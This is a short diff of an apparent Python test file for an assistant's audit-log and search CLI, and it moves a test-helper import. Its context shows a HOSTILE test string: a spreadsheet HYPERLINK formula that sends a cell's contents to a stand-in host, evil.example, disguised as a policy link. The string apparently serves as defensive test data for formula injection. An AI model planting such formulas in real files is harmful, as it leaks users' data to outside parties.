@@ -27,7 +27,7 @@ from assistant.audit.log import AuditLog
 from assistant.audit.store import AuditStore
 from assistant.cli.search import main
 from assistant.types import Feedback
-from tests.audit.test_audit_log import record
+from tests.support.audit_records import record
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?q="&D2,"Open the leave policy")',
